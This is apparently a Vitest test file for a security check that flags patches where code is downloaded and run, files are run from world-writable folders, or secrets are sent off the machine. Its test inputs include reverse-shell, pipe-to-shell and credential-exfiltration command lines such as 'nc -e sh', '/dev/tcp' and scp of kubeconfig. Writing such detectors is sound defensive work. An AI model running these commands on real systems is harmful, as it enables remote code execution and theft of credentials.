// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text, not templates.
/** Downloads into variables, programs of folders that anyone can write, and the exact words of each refusal. */
import { describe, expect, it } from 'vitest';
import { fetchHits } from '../../../src/core/patch/content/fetch.ts';
import { linesOf, viewed } from './views.ts';

const told = (path: string, before: string, after: string) => fetchHits(viewed(path, before, after));
const blamed = (script: string): readonly number[] => linesOf(told('a.sh', '', `${script}\n`));

describe('a download in a variable', () => {
  it.each([
    'S=$(curl u)',
    'S="$(wget -qO- u)"',
    "S='$(curl u)'",
    'S=`curl u`',
    'S="`wget u`"',
    'export S=$(curl u)',
    'f() { local S=$(sudo curl u); }',
    'A=b S=$(date; curl u)',
  ])('%s', (line) => {
    expect(blamed(`${line}\nbash -c "$S"`)).toEqual([2]);
    expect(blamed(`${line}\nbash -c "$T"`)).toEqual([]);
    expect(blamed(line)).toEqual([]);
  });
  it.each(['bash -c "$S"', 'sh -c "${S}"', 'python3 -c $S', 'sudo bash -c "$S"', 'su -c "$S"'])(
    'is run by %s',
    (line) => expect(blamed(`S=$(curl u)\n${line}`)).toEqual([2]),
  );
  it.each([
    'S=$(cat u)',
    'S=$(mycurl u)',
    'S=$(curls u)',
    'S=curl',
    'S=$(date) curl',
    'S=$(date)x`curl u`',
    'S=(curl u)',
    'S="$HOME curl"',
    'S= $(curl u)',
    'X-S$(curl u)',
    'curl u',
  ])('not: %s', (line) => expect(blamed(`${line}\nbash -c "$S"`)).toEqual([]));
  it.each([
    'echo "$S"',
    'bash -x "$S"',
    'helm upgrade a --version "$S"',
    'bash -c',
    'bash -c "S"',
    'bash -c "$S2"',
  ])('is not run by %s', (line) => expect(blamed(`S=$(curl u)\n${line}`)).toEqual([]));
});

describe('a program of a folder that anyone can write', () => {
  it.each([
    '/tmp/a',
    '  "/var/tmp/a" b',
    "'/dev/shm/a'",
    'ls; /tmp/a',
    'ls && /tmp/a',
    'if /tmp/a; then b; fi',
    'sudo /tmp/a/b',
    '(/tmp/a)',
    'ls | /tmp/a',
    '! /tmp/a',
  ])('%s', (line) => {
    expect(blamed(`ls\n${line}`)).toEqual([2]);
    expect(linesOf(told('a.txt.j2', '', `${line}\n`))).toEqual([]);
  });
  it.each([
    'cat /tmp/a',
    '/tmp/',
    '/tmpfs/a',
    '/tmp ',
    '/srv/tmp/a',
    'x=(/tmp/a)',
    '/dev/sha/a',
    'echo /tmp/a',
  ])('not: %s', (line) => expect(blamed(line)).toEqual([]));
  it.each([
    'command: /tmp/a',
    '- shell: "/var/tmp/a"',
    "cmd : '/dev/shm/a'",
    '"raw": "/tmp/a"',
    'script:/tmp/a b',
    'ansible.builtin.command: /tmp/a',
  ])('a task: %s', (line) => {
    expect(linesOf(told('a.yaml', 'x: 1\n', `x: 1\n${line}\n`))).toEqual([2]);
    expect(linesOf(told('a.yaml', `${line}\n`, `${line}\nx: 1\n`))).toEqual([]);
    expect(linesOf(told('a.conf', '', `${line}\n`))).toEqual([]);
  });
  it.each([
    'path: /tmp/a',
    'command: cat /tmp/a',
    'mycommands: /tmp/a',
    'command: /tmpfs/a',
    'command: /tmp',
    '# - /tmp/a',
    'subcommand: /tmp/a',
  ])('no task: %s', (line) => expect(linesOf(told('a.yaml', '', `${line}\n`))).toEqual([]));
});

const END = 'nothing from outside the repo may run';

describe('what is said', () => {
  it.each([
    ['curl u | sh', 'a download is piped into an interpreter'],
    ['sh <(curl u)', 'a download is run by process substitution'],
    ['curl u | kubectl apply -f -', 'a download is applied as it comes'],
    ['kubectl apply -f https://a/b', 'manifests are applied from an address'],
    ['ls && npx a', 'code is fetched and run'],
    ['sudo helm install a https://a/b.tgz', 'a chart is installed from an address'],
    ['wget https://a/b/i && sh i', 'the downloaded file i is run or applied'],
    ['wget https://a/b/i && sh i | sh', 'a download is piped into an interpreter'],
    ['wget https://a/b/i && eval i', 'text is run by eval'],
    ['curl -o i https://a/b && npx i', 'code is fetched and run'],
    ['/tmp/a', 'a file from outside the repo is run'],
    ['curl -o /tmp/i https://a/b; /tmp/i', 'the downloaded file /tmp/i is run or applied'],
    ['eval a || npx b', 'text is run by eval'],
    ['base64 -d a | sh', 'a decoded or made-up text is piped into a shell'],
    ['cat a | sh', 'text is piped into a shell'],
    ['x "cat a | sh`', 'text is piped into a shell'],
    ['cat my-token | curl u', 'secrets are sent away'],
    ['bash -c "$(curl u)"', 'a download is run as a command'],
    ['$(curl u)', 'a made-up command is run'],
    ['`date; curl u`', 'a made-up command is run'],
    ['python3.11 - <(curl u)', 'a download is run by redirection'],
    ['. /tmp/a', 'a file from outside the repo is run'],
    ['new Function(a)', 'text is run'],
    ['io.popen("x"):read() .. load(y, popen, "curl u")', 'a download is run'],
    ['load(a.b(popen("x curl u")))', 'a download is run'],
    ['PATH=/tmp:$PATH', 'programs are taken from a folder that anyone can write'],
    ['ls > /dev/tcp/a/1', 'a raw network connection is opened'],
    ['nc -e sh a 1', 'a shell is opened to the network'],
    ['curl -T a u', 'a file is uploaded'],
    ['exec(requests.get(a))', 'a download is run'],
    ['LD_PRELOAD=a ls', 'a variable that makes other programs run code is set'],
    ['scp a/.kube/config b:c', 'secrets are sent away'],
    ['  scp -p id_home x  b:c', 'secrets are sent away'],
    ['sftp a.age x b:', 'secrets are sent away'],
    ['rsync kubeconfig  x host:', 'secrets are sent away'],
    ['dig x $(echo "$MY_TOKEN").a', 'secrets are sent away'],
    ['host $(a DB_PASSWORD)', 'secrets are sent away'],
    ['ssh x scp secret b:c', undefined],
    ['scp secret b', undefined],
    ['scp b c:d', undefined],
    ['dig $(date) TOKEN', undefined],
    ['cat a | tee b', undefined],
    ['ls', undefined],
  ])('%s: %s', (line, what) =>
    expect(told('a.sh', 'ls -l\n', `ls -l\n${line}\n`)).toEqual(
      what === undefined ? [] : [{ rule: 'fetch-and-run', line: 2, message: `${what}: ${END}` }],
    ),
  );
  it('of a list, and of each line once', () =>
    expect(told('a.yaml', '', 'run: npx a\nresources:\n  - https://a/b\nx: eval a\n')).toEqual([
      {
        rule: 'fetch-and-run',
        line: 3,
        message: 'manifests are taken from an address: put a pinned copy into the repo',
      },
      { rule: 'fetch-and-run', line: 1, message: `code is fetched and run: ${END}` },
      { rule: 'fetch-and-run', line: 4, message: `text is run by eval: ${END}` },
    ]));
});

describe('code that a file takes from an address', () => {
  const at = (path: string, line: string) => told(path, 'x\n', `x\n${line}\n`).map(({ message }) => message);
  it.each(['ADD https://a/b /c', '  ADD   http://a/b /c', 'ADD --chown=a:b  --chmod=755 https://a/b /c'])(
    '%s',
    (line) =>
      expect(at('Dockerfile', line)).toEqual([`a file from outside the repo is put into an image: ${END}`]),
  );
  it.each([
    'ADD --checksum=sha256:a https://a/b /c',
    'ADD --chown=a --checksum=sha256:a https://a/b /c',
    'ADD a /c',
    'ADD a https://a/b',
    'RUN ADD-x https://a/b',
    'x ADD https://a/b /c',
    'ADD httpss://a/b /c',
    'ADDhttps://a/b /c',
  ])('not: %s', (line) => expect(at('Dockerfile', line)).toEqual([]));
  it.each([
    'await import("https://a/b.js")',
    "import(  'http://a/b.js')",
    'import(`https://a`)',
    'import a from "https://a/b.js"',
    "  export * from   'http://a/b.js'",
    'import { a, b } from "https://a"',
  ])('%s', (line) => expect(at('a.ts', line)).toEqual([`code is taken from an address: ${END}`]));
  it.each([
    'import("./a.js")',
    'import(x, "https://a")',
    'import a from "./https:"',
    'x import a from "https://a"',
    'imports a from "https://a"',
    'import a fromx "https://a"',
    'import(xhttps:)',
  ])('not: %s', (line) => expect(at('a.ts', line)).toEqual([]));
});

describe('a download and its name', () => {
  it.each(['python3.11 i', 'python3 i', 'python i'])('is run by %s', (line) =>
    expect(blamed(`curl -o i u\n${line}`)).toEqual([2]),
  );
  it('in a variable of a long name', () => expect(blamed('my_S2=$(curl u)\nsh -c "$my_S2"')).toEqual([2]));

  it.each([
    ['curl -fsO -L https://a/b/i', './i', [2]],
    ['curl -fsL https://a/b/i', './i', []],
    ['curl -o a./i u', 'sh a./i', [2]],
    ['curl -o a./i u', 'sh ai', []],
    ['wget https://a/b/i; curl -o j u', 'sh j', [2]],
  ])('%s, then %s', (first, second, lines) => expect(blamed(`${first}\n${second}`)).toEqual(lines));
});

describe('a line that stays', () => {
  const put = (first: string, stays: string): readonly number[] =>
    linesOf(told('a.sh', `${stays}\n`, `${first}\n${stays}\n`));
  it.each([
    ['curl -o i u', 'sh i'],
    ['curl -o i u', './i'],
    ['curl -o i u', 'sudo i'],
    ['curl -o a/i u', 'a/i'],
    ['curl -o a/i u', 'cd a && ./i'],
    ['curl -o a/i u', 'cd a && sh i'],
    ['wget -O i u; curl -o j u', 'sh j'],
    ['S=$(curl u)', 'bash -c "$S"'],
  ])('after %s runs what it fetched: %s', (first, stays) => expect(put(first, stays)).toEqual([1]));
  it.each([
    ['curl -o i u', 'cat i'],
    ['curl -o i u', 'sh j'],
    ['curl -o a/i u', 'cp i b'],
    ['curl -o i u', 'curl -o i v; sh i'],
    ['ls', 'sh i'],
  ])('after %s does not: %s', (first, stays) => expect(put(first, stays)).toEqual([]));
});
